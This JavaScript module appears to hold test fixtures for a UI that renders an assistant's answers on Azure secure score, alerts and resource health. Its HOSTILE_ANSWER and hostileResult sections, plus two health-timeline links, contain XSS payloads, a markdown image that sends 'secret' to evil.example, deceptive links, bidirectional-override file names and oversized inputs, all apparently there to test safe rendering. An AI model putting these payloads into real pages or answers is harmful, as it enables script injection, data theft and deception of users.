// The words and rows of the scenes.

export const SCOPES = ["a", "b", "c"].map((letter) => `/subscriptions/6f1d0c3e-0000-4000-8000-00000000000${letter}`);

export const TOOLS = [
  { name: "explain_secure_score", title: "Explain secure score", pillar: "security", effect: "read", description: "Explains the secure score: which controls would raise it most.", asks: ["Explain my secure score", "Which controls would raise the score most?"] },
  { name: "list_security_alerts", title: "List security alerts", pillar: "security", effect: "read", description: "Lists and counts the security alerts (attacks and threats).", asks: ["Which security alerts are high severity?", "Show active security alerts"] },
  { name: "list_attack_paths", title: "List attack paths", pillar: "security", effect: "read", description: "Lists the attack paths.", asks: ["Show attack paths"] },
  { name: "count_resources", title: "Count resources", pillar: "scope", effect: "read", description: "Counts resources by type.", asks: ["How many resources do I have?"] },
  { name: "find_tools", title: "Find tools", pillar: "across", effect: "read", description: "Finds further tools.", asks: [] },
];

export const UNSUPPORTED = ["12 days"];

export const SCORE_ANSWER = `Your secure score is **47.2 %**: 27.4 of 58 points across 3 subscriptions [e1].

### What would raise it most

| Control | Points to gain | Unhealthy resources |
|:--|--:|--:|
| Enable MFA | 10 | 3 |
| Secure management ports | 6.2 | 14 |
| Remediate vulnerabilities | 5.1 | 41 |

1. **Enable MFA** would gain the most: three accounts with owner rights sign in without it [e2].
2. **Secure management ports**: 14 virtual machines accept SSH or RDP from anywhere – \`vm-shop-web-03\` among them [e2].
3. Vulnerabilities have been open for 12 days on average.

> Points are weighted by Microsoft Defender for Cloud; a control pays only when all of its resources are healthy.

To list the machines behind the second control yourself:

\`\`\`kusto
securityresources
| where type == "microsoft.security/assessments"
| where properties.status.code == "Unhealthy"
| summarize count() by tostring(properties.displayName)
\`\`\`

See [how the score is computed](https://learn.microsoft.com/azure/defender-for-cloud/secure-score-security-controls).
`;

export const ALERTS_ANSWER = `There are **3 high severity alerts** open [e1]. The newest is a brute-force attack on \`vm-shop-web-03\`, whose SSH port is open to the internet [e1].`;

export function scoreResult() {
  return {
    summary: "Secure score is 27.4 of 58 points (47.2 %) over 3 subscriptions",
    views: [{ kind: "gauge", title: "Secure score", value: 27.4, max: 58, unit: "points", label: "27.4 of 58 points" }],
    rows: SCOPES.map((id, index) => ({ subscriptionId: id, current: [14.1, 8.3, 5.0][index], max: [26, 18, 14][index], percentage: [0.542, 0.461, 0.357][index] })),
    output: { current: 27.4, max: 58 },
  };
}

const CONTROLS = ["Enable MFA", "Secure management ports", "Remediate vulnerabilities", "Apply system updates", "Encrypt data in transit", "Restrict unauthorized network access", "Manage access and permissions", "Enable encryption at rest", "Protect applications against DDoS attacks", "Enable auditing and logging"];

export function controlsResult() {
  const rows = Array.from({ length: 240 }, (_, index) => ({
    control: CONTROLS[index % CONTROLS.length],
    severity: ["High", "Medium", "Low"][index % 3],
    resourceId: `${SCOPES[index % 3]}/resourceGroups/rg-shop/providers/Microsoft.Compute/virtualMachines/vm-shop-web-${String(index + 1).padStart(2, "0")}`,
    gain: Math.round((10 - (index % 10) * 0.9) * 10) / 10,
    unhealthy: (index * 7) % 43,
  }));
  const columns = [
    { key: "control", label: "Control", type: "text" },
    { key: "severity", label: "Severity", type: "severity" },
    { key: "resourceId", label: "Resource", type: "resource" },
    { key: "gain", label: "Points to gain", type: "number" },
    { key: "unhealthy", label: "Unhealthy", type: "number" },
  ];
  return {
    summary: "10 controls; Enable MFA would gain the most, 10 points",
    views: [
      { kind: "chart", title: "Points to gain by control", chart: "bars", unit: "points", labels: CONTROLS.slice(0, 5), series: [{ name: "gain", values: [10, 6.2, 5.1, 3.4, 1.2] }] },
      { kind: "table", title: "Unhealthy resources by control", columns, rows: rows.slice(0, 50).map((row) => columns.map(({ key }) => row[key])), total: rows.length },
    ],
    rows,
  };
}

export function alertsResult() {
  const rows = [1, 2, 3].map((n) => ({ alert: ["Suspected brute-force attack", "Malware found in a blob", "Sign-in from an unfamiliar place"][n - 1], severity: "High", resourceId: `${SCOPES[0]}/resourceGroups/rg-shop/providers/Microsoft.Compute/virtualMachines/vm-shop-web-0${n}`, at: new Date(Date.now() - n * 5_400_000).toISOString() }));
  const columns = [
    { key: "alert", label: "Alert", type: "text" },
    { key: "severity", label: "Severity", type: "severity" },
    { key: "resourceId", label: "Resource", type: "resource" },
    { key: "at", label: "Time", type: "instant" },
  ];
  return {
    summary: "3 alerts of high severity",
    views: [
      { kind: "table", title: "Alerts", columns, rows: rows.map((row) => columns.map(({ key }) => row[key])), total: 3 },
      { kind: "chart", title: "Alerts a day", chart: "lines", unit: "", labels: [6, 5, 4, 3, 2, 1, 0].map((day) => new Date(Date.now() - day * 86_400_000).toISOString()), series: [{ name: "high", values: [0, 1, 0, null, 1, 2, 3] }, { name: "medium", values: [4, 3, 5, 4, 2, 6, 5] }] },
    ],
    rows,
  };
}

export function healthResult() {
  const id = `${SCOPES[0]}/resourceGroups/rg-shop/providers/Microsoft.Compute/virtualMachines/vm-shop-web-03`;
  const portalUrl = `https://portal.azure.com/#resource${id}`;
  const entry = (hours, title, detail, tone, link) => ({ at: new Date(Date.now() - hours * 3_600_000).toISOString(), title, detail, tone, resourceId: id, portalUrl: link });
  return {
    summary: "vm-shop-web-03 is unavailable",
    read: 120,
    views: [
      {
        kind: "timeline",
        title: "Health over time",
        entries: [
          entry(9, "Unavailable", "The virtual machine stopped after its size was changed from Standard_D4s_v5 to Standard_E16s_v5.", "critical", portalUrl),
          entry(31, "Degraded", "Disk latency was above its baseline.", "warning", "https://evil.example/#resource"),
          entry(200, "Available", "", "good", undefined),
          entry(201, "Created", "by jonas.weber@northlight.example", "neutral", "javascript:window.pwned=1"),
        ],
        total: 7,
      },
      {
        kind: "table",
        title: "Resources",
        columns: [
          { key: "name", label: "Name", type: "text" },
          { key: "id", label: "Resource", type: "resource", portalUrls: [portalUrl, "http://portal.azure.com/#x"] },
          { key: "severity", label: "Severity", type: "severity" },
          { key: "cpu", label: "CPU", type: "percent" },
        ],
        rows: [
          ["vm-10", id, "Low", 0.31],
          ["vm-9", `${id}b`, "High", 0.97],
          ["vm-1", null, "Medium", null],
        ],
        total: 120,
      },
    ],
    rows: [{ name: "vm-10", id, severity: "Low", cpu: 0.31 }, { name: "vm-9", id: `${id}b`, severity: "High", cpu: 0.97 }, { name: "vm-1", id: null, severity: "Medium", cpu: null }],
  };
}

/** A name as nobody would give it, and as somebody might. */
const LONG_NAME = "vm-" + "averyveryverylongname".repeat(60);

export const HOSTILE_ANSWER = `<script>window.pwned=1</script>
<img src=x onerror="window.pwned=1">
<style>body{display:none}</style><iframe src="https://evil.example/"></iframe>

![exfiltrate](https://evil.example/?q=secret) and ![](data:image/svg+xml,<svg onload=alert(1)>)

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:x) [rel](/v1/threads) [user](https://learn.microsoft.com@evil.example/)

[https://portal.azure.com](https://evil.example/login) and <https://evil.example/auto> and https://evil.example/bare

[e1]: https://evil.example/citation

The file is \u202Egpj.exe and \u2066hidden\u2069. Entities: &lt;b&gt; &#x3c;script&#x3e;

| <b>h</b> | ![x](https://evil.example/t.png) |
|--|--|
| <img src=x onerror=window.pwned=1> | [x](JaVaScRiPt:window.pwned=1) |

Zero\u200bwidth, tags \u{e0041}\u{e0042}, escape \u001b[31m, stacked z${"\u0301".repeat(60)}.

${"word".repeat(2_000)} and \`${LONG_NAME}\`

Cited [e1] at last: the end.
`;

export function hostileResult() {
  const evil = "<img src=https://evil.example/x.png onerror=window.pwned=1>";
  return {
    summary: `${evil} and \u202Ereversed`,
    views: [
      { kind: "table", title: evil, columns: [{ key: "a", label: evil, type: "text" }, { key: "b", label: "b", type: "resource" }], rows: [[evil, "\u202Elld.exe"], [{ nested: evil }, null], ["zero\u200bwidth", `/subscriptions/s/providers/x/${LONG_NAME}`], [LONG_NAME, `/x/${"\u0301".repeat(500)}`]], total: 4 },
      { kind: "timeline", title: evil, entries: [{ at: "not a time", title: LONG_NAME, detail: evil, tone: "critical" }, { at: "2026-11-24T00:00:00Z", title: "\u202Eelif", detail: "", tone: "unheard of" }], total: 1e15 },
      { kind: "chart", title: evil, chart: "bars", unit: evil, labels: [LONG_NAME, evil], series: [{ name: evil, values: [1e308, null] }] },
      { kind: "chart", title: evil, chart: "lines", unit: "", labels: ["2026-11-23T00:00:00Z", "2026-11-24T00:00:00Z"], series: [{ name: LONG_NAME, values: [1e300, -5] }, { name: "short", values: [1] }] },
      { kind: "gauge", title: evil, value: 1e308, max: 0, unit: "", label: evil },
      { kind: "hologram", title: "a view of the future", payload: evil },
    ],
    rows: [
      { a: evil, b: "\u202Elld.exe", __proto__x: 1 },
      { a: "w".repeat(2_000_000), [LONG_NAME]: "\u200b".repeat(500_000) },
    ],
    output: { big: "o".repeat(2_000_000) },
  };
}

export function longAnswer() {
  return Array.from({ length: 60 }, (_, index) => `${index + 1}. Paragraph ${index + 1}: the quick brown fox jumps over the lazy dog – ünïcödé 🦊 and \`code\`.`).join("\n\n") + "\n\nThe end of the long answer.";
}
